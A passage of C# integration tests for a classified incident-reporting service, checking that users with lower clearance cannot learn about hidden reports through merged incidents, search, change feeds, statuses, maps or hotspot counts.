        Assert.Contains(AuditActions.MarkingLoosened, entries);
        Assert.Equal(HttpStatusCode.BadRequest, widerTlp.StatusCode);
        Assert.Contains("TLP:CLEAR instead of TLP:AMBER+STRICT", tlpProblem.GetProperty("errors").GetProperty("tlp")[0].GetString());
        Assert.Equal(HttpStatusCode.BadRequest, givenWiderTlp.StatusCode);
        Assert.Equal(["tlp"], givenTlpProblem.ErrorFields());
        Assert.Equal(HttpStatusCode.BadRequest, bothLooser.StatusCode);
        Assert.Equal(["marking", "tlp"], bothProblem.ErrorFields().Order());
        Assert.Contains("classification below CONFIDENTIAL", bothProblem.GetProperty("errors").GetProperty("marking")[0].GetString());
        Assert.DoesNotContain("TLP", bothProblem.GetProperty("errors").GetProperty("marking")[0].GetString());
        Assert.Equal(HttpStatusCode.Created, widerTlpByReleaser.StatusCode);
        Assert.Equal(("CONFIDENTIAL", "TLP:GREEN"), (tlpLoosened.GetProperty("marking").GetProperty("classification").GetString(), tlpLoosened.GetProperty("tlp").GetString()));
        Assert.Contains(AuditActions.MarkingLoosened, await server.WithDbAsync(db => db.Audit.Where(a => a.EntityId == Id(tlpLoosened)).Select(a => a.Action).ToListAsync()));

        // A new version applies to new reports; old reports keep the version that marked them.
        var (put, v2) = await server.ClientFor("unpoladmin").PutAsJsonAsync($"/api/agreements/{code}",
            new { name = agreement.name, parties = agreement.parties, rules = new[] { new { reporter = "org:UNPOL", category = "poc", marking = Api.Marking("STRICTLY CONFIDENTIAL", ["org:JOC"]), tlp = "red" } } })
            is var r ? (r, await r.Json()) : default;
        var (_, afterRevision) = await server.ClientFor("jocadmin").GetJson($"/api/reports/{Id(byDefault)}");
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        Assert.Equal(2, v2.GetProperty("version").GetInt32());
        Assert.Equal(1, afterRevision.GetProperty("agreement").GetProperty("version").GetInt32());
        // Another agreement's file sent to this one's address is refused by its code, not taken as this one's next version.
        var mismatched = await server.ClientFor("unpoladmin").PutAsJsonAsync($"/api/agreements/{code}",
            new { code = code + "B", name = agreement.name, parties = agreement.parties, rules = agreement.rules });
        Assert.Equal(HttpStatusCode.BadRequest, mismatched.StatusCode);
        Assert.Equal(["code"], (await mismatched.Json()).ErrorFields());
        var (_, versions) = await server.ClientFor("pref").GetJson($"/api/agreements/{code}");
        Assert.Equal(2, versions.GetArrayLength());
        var (foreign, _) = await server.ClientFor("ocha").PostJson("/api/agreements", agreement with { code = code + "X" });
        Assert.Equal(HttpStatusCode.Forbidden, foreign.StatusCode);
    }

    [Fact]
    public async Task An_incident_shows_each_viewer_only_what_its_visible_reports_say()
    {
        var tag = "derived" + Guid.NewGuid().ToString("N")[..8];
        var (_, open) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(narrative: $"{tag} open account", latitude: 6.0, longitude: 20.0,
            marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent));
        var (_, secret) = await server.ClientFor("joc").PostJson("/api/reports", Api.Fields(Api.Report(narrative: $"{tag} secret account, 40 killed", latitude: 6.2, longitude: 20.2,
            category: "poc.abduction", marking: Api.Marking("STRICTLY CONFIDENTIAL", []), observedAt: Api.Recent.AddDays(-2)), killed: 40));
        var target = Id(open, "incidentId");

        var (merged, _) = await server.ClientFor("joc").PostJson($"/api/incidents/{target}/merge", new { incidents = new[] { Id(secret, "incidentId") } });
        var (_, full) = await server.ClientFor("joc").GetJson($"/api/incidents/{target}");
        var (_, partial) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");
        var (_, list) = await server.ClientFor("pref").GetJson($"/api/incidents?q={tag}");
        var (_, geo) = await server.ClientFor("pref").GetJson("/api/incidents/geojson?bbox=19.9,5.9,20.3,6.3");
        // The stored title comes from the earlier, secret account: searching must not let pref test words against it.
        var (_, bySecretWords) = await server.ClientFor("pref").GetJson($"/api/incidents?q={tag} secret account");
        var (_, byOpenWords) = await server.ClientFor("pref").GetJson($"/api/incidents?q={tag} open account");
        var (_, jocBySecretWords) = await server.ClientFor("joc").GetJson($"/api/incidents?q={tag} secret account");
        var (_, bySecretCategory) = await server.ClientFor("pref").GetJson($"/api/incidents?q={tag}&category=poc");
        var (_, bySecretLevel) = await server.ClientFor("pref").GetJson($"/api/incidents?q={tag}&classification=STRICTLY%20CONFIDENTIAL");
        var (_, provenance) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}/provenance");
        var (_, fullProvenance) = await server.ClientFor("joc").GetJson($"/api/incidents/{target}/provenance");
        var gone = await server.ClientFor("joc").GetAsync($"/api/incidents/{Id(secret, "incidentId")}");

        Assert.Equal(HttpStatusCode.OK, merged.StatusCode);
        Assert.Equal(2, full.GetProperty("reportCount").GetInt32());
        Assert.Equal(Api.Recent.AddDays(-2), full.GetProperty("startsAt").GetDateTimeOffset());
        Assert.Equal("STRICTLY CONFIDENTIAL", full.GetProperty("marking").GetProperty("classification").GetString());
        Assert.Equal(HttpStatusCode.NotFound, gone.StatusCode);

        Assert.Equal(1, partial.GetProperty("reportCount").GetInt32());
        Assert.Equal([Id(open)], partial.GetProperty("reports").EnumerateArray().Select(r => Id(r)).ToArray());
        Assert.Equal(Api.Recent, partial.GetProperty("startsAt").GetDateTimeOffset());
        Assert.Equal(3, partial.GetProperty("killedBest").GetInt32());
        // The open account says 1–4 civilians and 1 other killed; the secret one's 40 stays out of pref's range.
        Assert.Equal(2, partial.GetProperty("killed").GetProperty("low").GetInt32());
        Assert.Equal(5, partial.GetProperty("killed").GetProperty("high").GetInt32());
        Assert.Equal(40, full.GetProperty("killed").GetProperty("high").GetInt32());
        Assert.Equal(2, full.GetProperty("killed").GetProperty("low").GetInt32());
        var panel = WebUtility.HtmlDecode(await (await server.ClientFor("pref").GetAsync($"/ui/incidents/{target}/panel")).Content.ReadAsStringAsync());
        var fullPanel = WebUtility.HtmlDecode(await (await server.ClientFor("joc").GetAsync($"/ui/incidents/{target}/panel")).Content.ReadAsStringAsync());
        Assert.Contains(">3 (2–5)<", panel, StringComparison.Ordinal);
        Assert.Contains("(2–40)<", fullPanel, StringComparison.Ordinal);
        Assert.Equal(6.0, partial.GetProperty("location").GetProperty("latitude").GetDouble());
        Assert.Equal("UNCLASSIFIED", partial.GetProperty("marking").GetProperty("classification").GetString());
        Assert.DoesNotContain("secret", partial.ToString());
        Assert.Equal(1, list.GetProperty("items")[0].GetProperty("reportCount").GetInt32());
        Assert.DoesNotContain(bySecretWords.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        Assert.Contains(byOpenWords.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        Assert.Contains(jocBySecretWords.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        Assert.Equal("acled.battles.armed-clash", partial.GetProperty("category").GetString());
        Assert.DoesNotContain(bySecretCategory.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        Assert.DoesNotContain(bySecretLevel.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        // How the reports came together was decided with the secret one: pref is told only what its own report says.
        var link = provenance.GetProperty("reports").EnumerateArray().Single();
        Assert.Equal("new", link.GetProperty("decision").GetString());
        Assert.False(link.TryGetProperty("scores", out var scores) && scores.ValueKind != JsonValueKind.Null);
        Assert.DoesNotContain(fullProvenance.GetProperty("reports").EnumerateArray(), l => l.GetProperty("decision").GetString() == "linked");
        // An analyst who sees only the open report cannot split it out: refused as for a one-report incident, no hint of the other.
        var (split, splitProblem) = await server.ClientFor("ocha").PostJson($"/api/incidents/{target}/split", new { reports = new[] { Id(open) } });
        Assert.Equal(HttpStatusCode.BadRequest, split.StatusCode);
        Assert.Contains("leave at least one report you may see", splitProblem.ToString(), StringComparison.Ordinal);
        var feature = geo.GetProperty("features").EnumerateArray().Single(f => f.GetProperty("id").GetGuid() == target);
        Assert.Equal([20.0, 6.0], feature.GetProperty("geometry").GetProperty("coordinates").EnumerateArray().Select(c => c.GetDouble()).ToArray());
        Assert.Equal(1, feature.GetProperty("properties").GetProperty("reportCount").GetInt32());

        var (_, hidden) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("STRICTLY CONFIDENTIAL", [])));
        Assert.Equal(HttpStatusCode.NotFound, (await server.ClientFor("pref").GetAsync($"/api/incidents/{Id(hidden, "incidentId")}")).StatusCode);

        // The other way round: the open account is merged into the secret one's incident. Pref's only report must not read
        // "merged" (that would say the incident already held reports pref cannot see): it opened the incident as pref sees it.
        var (_, laterOpen) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(narrative: $"{tag} later open account", latitude: 7.0, longitude: 21.0,
            marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent));
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{Id(hidden, "incidentId")}/merge", new { incidents = new[] { Id(laterOpen, "incidentId") } })).Response.StatusCode);
        var (_, intoSecret) = await server.ClientFor("pref").GetJson($"/api/incidents/{Id(hidden, "incidentId")}/provenance");
        Assert.Equal("new", intoSecret.GetProperty("reports").EnumerateArray().Single().GetProperty("decision").GetString());
        var (_, intoSecretFull) = await server.ClientFor("joc").GetJson($"/api/incidents/{Id(hidden, "incidentId")}/provenance");
        Assert.Equal(["new", "merged"], intoSecretFull.GetProperty("reports").EnumerateArray().Select(l => l.GetProperty("decision").GetString()));
    }

    [Fact]
    public async Task The_change_feed_does_not_say_that_an_incident_existed_before_the_first_report_a_viewer_may_see()
    {
        var place = Api.Spot();
        const string Narrative = "Armed men stopped the convoy at the Sibut bridge and took two drivers.";
        var (_, hidden) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(latitude: place.Latitude, longitude: place.Longitude, narrative: Narrative,
            marking: Api.Marking("STRICTLY CONFIDENTIAL", [])));
        var (_, open) = await server.ClientFor("force").PostJson("/api/reports", Api.Report(latitude: place.Latitude, longitude: place.Longitude, narrative: Narrative,
            marking: Api.Marking("UNCLASSIFIED", ["mission"])));
        var incident = hidden.GetProperty("incidentId").GetGuid();
        Assert.Equal(incident, open.GetProperty("incidentId").GetGuid());

        // PREF may see the incident now, through FORCE's report, and FORCE through its own: to both it begins with that report.
        // "Updated" would say it was opened before, from a report they may not see: FORCE could place reports at will and
        // learn from the answers where and when hidden reporting exists.
        Assert.Equal(["created"], await server.ClientFor("pref").ChangesOfAsync(incident));
        Assert.Equal(["created"], await server.ClientFor("force").ChangesOfAsync(incident));
        Assert.Equal(["created", "updated"], await server.ClientFor("joc").ChangesOfAsync(incident));

        // A second open report joining is news of an incident they already saw begin.
        var (_, second) = await server.ClientFor("force").PostJson("/api/reports", Api.Report(latitude: place.Latitude, longitude: place.Longitude, narrative: Narrative,
            marking: Api.Marking("UNCLASSIFIED", ["mission"])));
        Assert.Equal(incident, second.GetProperty("incidentId").GetGuid());
        Assert.Equal(["created", "updated"], await server.ClientFor("pref").ChangesOfAsync(incident));

        // FORCE's first report split out and merged back: its link is new, but the feed read again from the start still
        // begins the incident, for PREF, with that report's joining, and every change after it is an update.
        var (splitAnswer, _) = await server.ClientFor("joc").PostJson($"/api/incidents/{incident}/split", new { reports = new[] { open.GetProperty("id").GetGuid() } });
        Assert.Equal(HttpStatusCode.OK, splitAnswer.StatusCode);
        var (_, moved) = await server.ClientFor("joc").GetJson($"/api/reports/{open.GetProperty("id").GetGuid()}");
        var splitOff = moved.GetProperty("incidentId").GetGuid();
        Assert.NotEqual(incident, splitOff);
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{incident}/merge", new { incidents = new[] { splitOff } })).Response.StatusCode);
        var again = await server.ClientFor("pref").ChangesOfAsync(incident);
        Assert.Equal("created", again[0]);
        Assert.All(again.Skip(1), operation => Assert.Equal("updated", operation));
        Assert.True(again.Count >= 4, string.Join(",", again));

        // Merged into an incident of hidden reports: the open account's new incident begins, for PREF, at the merge.
        var (_, secret) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(narrative: "A closed meeting of armed group leaders near Kaga-Bandoro.",
            marking: Api.Marking("STRICTLY CONFIDENTIAL", [])));
        var (_, lone) = await server.ClientFor("force").PostJson("/api/reports", Api.Report(narrative: "Shots heard at night near the Kaga-Bandoro airstrip.",
            marking: Api.Marking("UNCLASSIFIED", ["mission"])));
        var into = secret.GetProperty("incidentId").GetGuid();
        Assert.NotEqual(into, lone.GetProperty("incidentId").GetGuid());
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{into}/merge", new { incidents = new[] { lone.GetProperty("incidentId").GetGuid() } })).Response.StatusCode);
        Assert.Equal(["created"], await server.ClientFor("pref").ChangesOfAsync(into));
        Assert.Equal(["created", "updated"], await server.ClientFor("joc").ChangesOfAsync(into));
    }

    [Fact]
    public async Task A_mixed_incident_is_ordered_paged_found_and_counted_by_what_the_viewer_sees()
    {
        var tag = "placed" + Guid.NewGuid().ToString("N")[..8];
        var (_, open) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(narrative: $"{tag} open account", latitude: 7.3, longitude: 22.1,
            marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent));
        // Earlier, more precisely placed and deadlier: the stored incident takes its start, place and a higher median.
        var secretFields = Api.Fields(Api.Report(narrative: $"{tag} secret account", latitude: 7.9, longitude: 22.9,
            marking: Api.Marking("STRICTLY CONFIDENTIAL", []), observedAt: Api.Recent.AddDays(-2)), killed: 40);
        secretFields["location"] = new { latitude = 7.9, longitude = 22.9, precisionMeters = 50.0 };
        var (_, secret) = await server.ClientFor("joc").PostJson("/api/reports", secretFields);
        var spot = Api.Spot();
        var (_, other) = await server.ClientFor("joc").PostJson("/api/reports", Api.Fields(Api.Report(narrative: $"{tag} other account", latitude: spot.Latitude, longitude: spot.Longitude,
            marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent.AddDays(-1)), killed: 10));
        var target = Id(open, "incidentId");
        var (merged, _) = await server.ClientFor("joc").PostJson($"/api/incidents/{target}/merge", new { incidents = new[] { Id(secret, "incidentId") } });
        Assert.Equal(HttpStatusCode.OK, merged.StatusCode);
        // Older accounts of other events, for the sorted list's pages.
        var older = new List<Guid>();
        foreach (var (killed, days) in new[] { (20, 3), (5, 4), (0, 5) })
        {
            var place = Api.Spot();
            var (_, created) = await server.ClientFor("joc").PostJson("/api/reports", Api.Fields(Api.Report(narrative: $"{tag} older account {killed}", latitude: place.Latitude,
                longitude: place.Longitude, marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent.AddDays(-days)), killed: killed));
            older.Add(Id(created, "incidentId"));
        }

        // Newest first by the start pref sees (the open account's), and the cursor holds that start, not the hidden one.
        var (_, first) = await server.ClientFor("pref").GetJson($"/api/incidents?q={tag}&limit=1");
        var cursor = first.GetProperty("next").GetString()!;
        var (_, second) = await server.ClientFor("pref").GetJson($"/api/incidents?q={tag}&limit=1&cursor={Uri.EscapeDataString(cursor)}");
        var (_, jocFirst) = await server.ClientFor("joc").GetJson($"/api/incidents?q={tag}&limit=1");
        Assert.Equal([target], first.GetProperty("items").EnumerateArray().Select(i => Id(i)).ToArray());
        // (Sealed for clients; the server can open it.)
        Assert.True(Http.Cursor.TryDecode(cursor, server.Services.GetRequiredService<Http.CursorKeys>().For(Http.CursorListings.Incidents), out var opened));
        Assert.Equal(Api.Recent.UtcTicks, opened.At.Ticks);
        Assert.Equal([Id(other, "incidentId")], second.GetProperty("items").EnumerateArray().Select(i => Id(i)).ToArray());
        // joc sees the secret account too, so for joc the incident began two days earlier and comes second.
        Assert.Equal([Id(other, "incidentId")], jocFirst.GetProperty("items").EnumerateArray().Select(i => Id(i)).ToArray());
        var (_, jocSecond) = await server.ClientFor("joc").GetJson($"/api/incidents?q={tag}&limit=1&cursor={Uri.EscapeDataString(jocFirst.GetProperty("next").GetString()!)}");
        Assert.Equal([target], jocSecond.GetProperty("items").EnumerateArray().Select(i => Id(i)).ToArray());

        // Found where pref sees it, not where the hidden account puts it; joc finds it at the precise place.
        static async Task<Guid[]> Features(HttpClient client, string path) =>
            [.. (await client.GetJson(path)).Body.GetProperty("features").EnumerateArray().Select(f => f.GetProperty("id").GetString()!).Where(id => Guid.TryParse(id, out _)).Select(Guid.Parse)];
        Assert.Contains(target, await Features(server.ClientFor("pref"), "/api/incidents/geojson?bbox=22.0,7.2,22.2,7.4"));
        Assert.Contains(target, await Features(server.ClientFor("pref"), "/api/incidents/map?bbox=22.0,7.2,22.2,7.4&zoom=12"));
        Assert.DoesNotContain(target, await Features(server.ClientFor("pref"), "/api/incidents/geojson?bbox=22.8,7.8,23.0,8.0"));
        Assert.DoesNotContain(target, await Features(server.ClientFor("pref"), "/api/incidents/map?bbox=22.8,7.8,23.0,8.0&zoom=12"));
        Assert.Contains(target, await Features(server.ClientFor("joc"), "/api/incidents/geojson?bbox=22.8,7.8,23.0,8.0"));
        var (_, listed) = await server.ClientFor("pref").GetJson("/api/incidents?bbox=22.0,7.2,22.2,7.4");
        Assert.Contains(listed.GetProperty("items").EnumerateArray(), i => Id(i) == target);

        // The browser's sortable list: deadliest first by the figures pref sees (3, not the hidden 40), counted once each.
        await using var scope = server.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<Data.ConcordDb>();
        var (selection, errors) = await Incidents.IncidentQuery.ApplyAsync(db, db.Incidents.AsNoTracking(), new Http.ListQuery { Text = tag }, server.ViewerOf("pref"),
            server.Services.GetRequiredService<Data.MissionDirectory>(), server.Services.GetRequiredService<Access.MarkingFormat>(), CancellationToken.None);
        Assert.Empty(errors);
        var (total, page) = await selection!.SortedPageAsync(i => i.KilledBest, (a, b) => Nullable.Compare(a.KilledBest, b.KilledBest), false, 0, 50, CancellationToken.None);
        Assert.Equal(5, total);
        Assert.Equal([older[0], Id(other, "incidentId"), older[1], target, older[2]], page.Select(i => i.Id).ToArray());
        Assert.Equal([20, 10, 5, 3, 0], page.Select(i => i.KilledBest).ToArray());
        // Page by page (the store reads only the plain rows around each page) gives the same order as one page.
        for (var skip = 0; skip < total; skip++)
        {
            var (_, one) = await selection.SortedPageAsync(i => i.KilledBest ?? -1, (a, b) => (a.KilledBest ?? -1).CompareTo(b.KilledBest ?? -1), false, skip, 1, CancellationToken.None);
            Assert.Equal(page[skip].Id, Assert.Single(one).Id);
        }

        Assert.Equal(Api.Recent.UtcDateTime, await selection.LatestStartAsync(CancellationToken.None));

        // Plain incidents going between the count and the page's read (merged away meanwhile; here, closed under a selection
        // of open ones) leave a shorter page, not a failed one.
        var stillOpen = selection.NarrowPlain(i => i.Status != Incidents.IncidentStatus.Closed);
        var plainIds = older.Append(Id(other, "incidentId")).ToList();
        stillOpen.AfterCounting = () => server.WithDbAsync(d => d.Incidents.Where(i => plainIds.Contains(i.Id))
            .ExecuteUpdateAsync(u => u.SetProperty(i => i.Status, Incidents.IncidentStatus.Closed)));
        var (counted, late) = await stillOpen.SortedPageAsync(i => i.KilledBest ?? -1, (a, b) => (a.KilledBest ?? -1).CompareTo(b.KilledBest ?? -1), false, 3, 1, CancellationToken.None);
        Assert.Equal(5, counted);
        Assert.Empty(late);
        var (_, firstPage) = await stillOpen.SortedPageAsync(i => i.KilledBest ?? -1, (a, b) => (a.KilledBest ?? -1).CompareTo(b.KilledBest ?? -1), false, 0, 5, CancellationToken.None);
        Assert.Equal([target], firstPage.Select(i => i.Id).ToArray());

        // Hotspots count it where and as deadly as pref sees it (3 at 7.3° N 22.1° E, PRIO-GRID 140085), not in the hidden
        // account's cell (140806) with its 40; the plain ones are counted in the store.
        var (_, cells) = await server.ClientFor("pref").GetJson($"/api/early-warning/hotspots?q={tag}&by=cell");
        var items = cells.GetProperty("items").EnumerateArray().ToList();
        Assert.Equal(5, items.Sum(h => h.GetProperty("incidents").GetInt32()));
        Assert.Equal(38, items.Sum(h => h.GetProperty("killed").GetInt64()));
        Assert.Contains(items, h => h.GetProperty("key").GetString() == "140085" && h.GetProperty("latitude").GetDouble() == 7.25 && h.GetProperty("longitude").GetDouble() == 22.25);
        Assert.DoesNotContain(items, h => h.GetProperty("key").GetString() == "140806");
        Assert.Equal("UNCLASSIFIED", cells.GetProperty("classification").GetString());
        var (_, jocCells) = await server.ClientFor("joc").GetJson($"/api/early-warning/hotspots?q={tag}&by=cell");
        var jocItems = jocCells.GetProperty("items").EnumerateArray().ToList();
        var (_, jocTarget) = await server.ClientFor("joc").GetJson($"/api/incidents/{target}");
        Assert.Equal(35 + jocTarget.GetProperty("killedBest").GetInt64(), jocItems.Sum(h => h.GetProperty("killed").GetInt64()));
        Assert.Contains(jocItems, h => h.GetProperty("key").GetString() == "140806");
        Assert.Equal("STRICTLY CONFIDENTIAL", jocCells.GetProperty("classification").GetString());
        var (_, areas) = await server.ClientFor("pref").GetJson($"/api/early-warning/hotspots?q={tag}&by=area");
        Assert.Equal(5, areas.GetProperty("items").EnumerateArray().Sum(h => h.GetProperty("incidents").GetInt32()));
        Assert.Equal(38, areas.GetProperty("items").EnumerateArray().Sum(h => h.GetProperty("killed").GetInt64()));
    }

    [Fact]
    public async Task A_report_the_viewer_may_not_see_joining_their_incident_is_no_news_to_them()
    {
        var spot = Api.Spot();
        var (_, open) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(latitude: spot.Latitude, longitude: spot.Longitude,
            marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent));
        var target = Id(open, "incidentId");
        var (_, before) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");

        var (_, secret) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("STRICTLY CONFIDENTIAL", []), observedAt: Api.Recent.AddHours(-5)));
        var (_, another) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("STRICTLY CONFIDENTIAL", []), observedAt: Api.Recent.AddHours(-6)));
        var (merged, _) = await server.ClientFor("joc").PostJson($"/api/incidents/{target}/merge", new { incidents = new[] { Id(secret, "incidentId"), Id(another, "incidentId") } });
        Assert.Equal(HttpStatusCode.OK, merged.StatusCode);
        var (_, after) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");

        // joc's incident changed; pref's did not, and neither the feed nor the incident's time says otherwise.
        Assert.Equal(["created"], await server.ClientFor("pref").ChangesOfAsync(target));
        // One row for the write, not one per report it moved: the feed's sequence does not count hidden reports.
        Assert.Equal(["created", "updated"], await server.ClientFor("joc").ChangesOfAsync(target));
        Assert.Equal(before.GetProperty("updatedAt").GetDateTimeOffset(), after.GetProperty("updatedAt").GetDateTimeOffset());
        Assert.Equal(before.GetProperty("startsAt").GetDateTimeOffset(), after.GetProperty("startsAt").GetDateTimeOffset());

        // A report pref may see joining is news to pref, and so is a status change.
        var (_, visible) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent.AddHours(1)));
        await server.ClientFor("joc").PostJson($"/api/incidents/{target}/merge", new { incidents = new[] { Id(visible, "incidentId") } });
        Assert.Equal(["created", "updated"], await server.ClientFor("pref").ChangesOfAsync(target));
        var (_, joined) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");
        Assert.True(joined.GetProperty("updatedAt").GetDateTimeOffset() > after.GetProperty("updatedAt").GetDateTimeOffset());
        var (status, _) = await server.ClientFor("joc").PostJson($"/api/incidents/{target}/status", new { status = "verified" });
        Assert.Equal(HttpStatusCode.OK, status.StatusCode);
        Assert.Equal(["created", "updated", "updated"], await server.ClientFor("pref").ChangesOfAsync(target));
        var (_, verified) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");
        Assert.True(verified.GetProperty("updatedAt").GetDateTimeOffset() > joined.GetProperty("updatedAt").GetDateTimeOffset());
    }

    [Fact]
    public async Task A_status_set_to_what_it_already_is_answers_the_incident_and_is_audited_as_a_read()
    {
        var (_, report) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:UNPOL", "org:JOC"])));
        var target = Id(report, "incidentId");
        var (same, body) = await server.ClientFor("joc").PostJson($"/api/incidents/{target}/status", new { status = "reported" });
        Assert.Equal((HttpStatusCode.OK, "reported"), (same.StatusCode, body.GetProperty("status").GetString()));
        // The answer tells the incident (title, place, figures, marking) as a GET would: it is named in a read entry.
        Assert.Contains(await server.WithDbAsync(db => db.Audit.AsNoTracking().Where(a => a.Actor == "joc" && a.EntityId == target).Select(a => a.Action).ToListAsync()),
            action => action == AuditActions.Read);
    }

    [Fact]
    public async Task A_status_decided_before_a_viewer_could_see_any_of_an_incidents_reports_is_not_shown_to_them()
    {
        // The JOC verifies an incident made of its own secret account; a mission-wide account joins it later.
        var (_, secret) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("STRICTLY CONFIDENTIAL", []), observedAt: Api.Recent.AddHours(-3)));
        var target = Id(secret, "incidentId");
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{target}/status", new { status = "verified" })).Response.StatusCode);
        var (_, open) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent.AddHours(-2)));
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{target}/merge", new { incidents = new[] { Id(open, "incidentId") } })).Response.StatusCode);

        // To pref the incident is the open account alone: "verified" would say that an analyst judged reports pref may not see.
        var (_, seen) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");
        Assert.Equal("reported", seen.GetProperty("status").GetString());
        Assert.Equal(1, seen.GetProperty("reportCount").GetInt32());
        var (_, listed) = await server.ClientFor("pref").GetJson($"/api/incidents?status=verified&q={Uri.EscapeDataString(seen.GetProperty("title").GetString()!)}");
        Assert.DoesNotContain(listed.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        var (_, reported) = await server.ClientFor("pref").GetJson($"/api/incidents?status=reported&q={Uri.EscapeDataString(seen.GetProperty("title").GetString()!)}&limit=5000");
        Assert.Contains(reported.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        var (_, stored) = await server.ClientFor("joc").GetJson($"/api/incidents/{target}");
        Assert.Equal("verified", stored.GetProperty("status").GetString());

        // An analyst who sees it as pref does moves it from what they see: "reported" is already so, "verified" is set anew.
        var (same, sameBody) = await server.ClientFor("force").PostJson($"/api/incidents/{target}/status", new { status = "reported" });
        Assert.Equal((HttpStatusCode.OK, "reported"), (same.StatusCode, sameBody.GetProperty("status").GetString()));
        var (again, againBody) = await server.ClientFor("force").PostJson($"/api/incidents/{target}/status", new { status = "verified" });
        Assert.Equal((HttpStatusCode.OK, "verified"), (again.StatusCode, againBody.GetProperty("status").GetString()));
        var (_, reverified) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");
        Assert.Equal("verified", reverified.GetProperty("status").GetString());

        // A status set once pref's account is in is pref's to see.
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{target}/status", new { status = "closed" })).Response.StatusCode);
        var (_, closed) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");
        Assert.Equal("closed", closed.GetProperty("status").GetString());

        // The feed tells pref of the open account joining (the incident's beginning, to pref) and of the statuses set since,
        // not of the verification before it.
        Assert.Equal(["created", "updated", "updated"], await server.ClientFor("pref").ChangesOfAsync(target));
        Assert.Equal(["created", "updated", "updated", "updated", "updated"], await server.ClientFor("joc").ChangesOfAsync(target));
    }

    [Fact]
    public async Task A_split_takes_a_status_away_with_the_reports_it_was_decided_on()
    {
        // As above: the JOC verifies its secret account, a mission-wide account joins later; then the JOC splits its
        // secret account out. What remains is plain (one marking), and was never judged: "verified" would now be shown
        // to pref (and found by a status filter, and announced in the feed) as if decided on what pref sees.
        var (_, secret) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("STRICTLY CONFIDENTIAL", []), observedAt: Api.Recent.AddHours(-3)));
        var target = Id(secret, "incidentId");
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{target}/status", new { status = "verified" })).Response.StatusCode);
        var (_, open) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(marking: Api.Marking("UNCLASSIFIED", ["mission"]), observedAt: Api.Recent.AddHours(-2)));
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{target}/merge", new { incidents = new[] { Id(open, "incidentId") } })).Response.StatusCode);
        var (split, _) = await server.ClientFor("joc").PostJson($"/api/incidents/{target}/split", new { reports = new[] { Id(secret) } });
        Assert.Equal(HttpStatusCode.OK, split.StatusCode);

        var (_, seen) = await server.ClientFor("pref").GetJson($"/api/incidents/{target}");
        Assert.Equal("reported", seen.GetProperty("status").GetString());
        var (_, listed) = await server.ClientFor("pref").GetJson($"/api/incidents?status=verified&q={Uri.EscapeDataString(seen.GetProperty("title").GetString()!)}");
        Assert.DoesNotContain(listed.GetProperty("items").EnumerateArray(), i => Id(i) == target);
        var (_, stored) = await server.ClientFor("joc").GetJson($"/api/incidents/{target}");
        Assert.Equal("reported", stored.GetProperty("status").GetString());
        Assert.Equal(["created"], await server.ClientFor("pref").ChangesOfAsync(target));
    }

    [Fact]
    public async Task A_release_waiting_for_a_status_change_does_not_show_that_status_to_those_who_see_only_the_copy()
    {
        var place = Api.Spot();
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(latitude: place.Latitude, longitude: place.Longitude,
            marking: Api.Marking("CONFIDENTIAL", ["org:JOC"])));
        var incident = Id(original, "incidentId");
        var release = new { marking = Api.Marking("UNCLASSIFIED", ["mission"]), tlp = "green", gridDegrees = 0.5, narrative = "Armed clash reported.", reason = "For partners' access planning" };

